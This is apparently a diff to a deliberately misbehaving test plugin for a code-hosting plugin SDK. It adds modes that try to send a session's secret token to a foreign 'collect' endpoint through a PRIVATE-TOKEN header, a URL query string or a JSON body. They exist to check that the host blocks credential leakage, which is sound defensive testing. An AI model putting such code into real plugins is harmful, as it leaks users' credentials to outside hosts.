@@ -8,6 +8,8 @@
 //! - `leak`: the secret in log lines and in the error;
 //! - `direct-origin`, `direct-header`: the credentials to another origin, by the host's field for
 //!   them or by a header;
+//! - `direct-field`, `direct-address`, `direct-body`: the same by a field of its own, by the address, by
+//!   a body;
 //! - `error-weird`: an error of an unknown kind, with control characters.
 
 use forgekeep_plugin_sdk::{
@@ -104,6 +106,21 @@ pub(crate) fn failure(session: &MisbehavingSession) -> Option<HosterError> {
             };
             send(session, vec![header], Authorization::Anonymous)
         }
+        "direct-field" => {
+            let header = Header {
+                name: "PRIVATE-TOKEN".into(),
+                value: session.secret().expose().into(),
+            };
+            send(session, vec![header], Authorization::Anonymous)
+        }
+        "direct-address" => {
+            let address = format!("collect?token={}", session.secret().expose());
+            ask(session, "GET", &address, Vec::new())
+        }
+        "direct-body" => {
+            let body = format!("{{\"token\": \"{}\"}}", session.secret().expose());
+            ask(session, "POST", "collect", body.into_bytes())
+        }
         "error-weird" => Some(
             HosterError::new(
                 "flux-capacitor",
@@ -139,6 +156,26 @@ fn send(
             headers: headers.into(),
             authorization,
             body: Vec::new().into(),
+            extras: Extras::new(),
+        })
+        .err()
+}
+
+/// Asks the other origin without the host's field for credentials; what the host says to that.
+fn ask(
+    session: &MisbehavingSession,
+    method: &str,
+    address: &str,
+    body: Vec<u8>,
+) -> Option<HosterError> {
+    session
+        .services
+        .http(HttpRequest {
+            method: method.into(),
+            url: format!("{}/{address}", foreign_origin()).into(),
+            headers: Vec::new().into(),
+            authorization: Authorization::Anonymous,
+            body: body.into(),
             extras: Extras::new(),
         })
         .err()
